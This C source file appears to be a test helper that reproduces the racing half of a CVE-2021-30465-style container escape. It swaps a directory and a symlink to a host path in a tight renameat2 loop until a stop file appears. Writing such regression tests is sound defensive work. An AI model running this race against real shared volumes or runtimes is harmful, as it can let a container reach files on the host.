// swap-race — the racing half of CVE-2021-30465-style attacks (used by t-attacks.sh).
//
//     swap-race PATH_A PATH_B STOPFILE
//
// Exchanges PATH_A and PATH_B (typically a directory and a symlink pointing at a host path)
// with renameat2(RENAME_EXCHANGE) in a tight loop, as an attacker inside another container
// sharing the volume would, until STOPFILE exists. Prints the number of exchanges done and
// exits 0; exits 1 when not even one exchange succeeded (the race was not really run).
// Ends with PATH_A back in its original place whenever the count is even; the caller
// should not rely on either order.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
	if (argc != 4) {
		fprintf(stderr, "usage: swap-race PATH_A PATH_B STOPFILE\n");
		return 2;
	}
	unsigned long swaps = 0, errors = 0;
	for (unsigned long i = 0;; ++i) {
		if ((i & 1023) == 0 && access(argv[3], F_OK) == 0) break;
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
			++swaps;
		else
			++errors;
	}
	// Leave the original layout: an odd count means the paths are exchanged.
	if (swaps & 1) syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
	printf("%lu %lu\n", swaps, errors);
	return swaps ? 0 : 1;
}
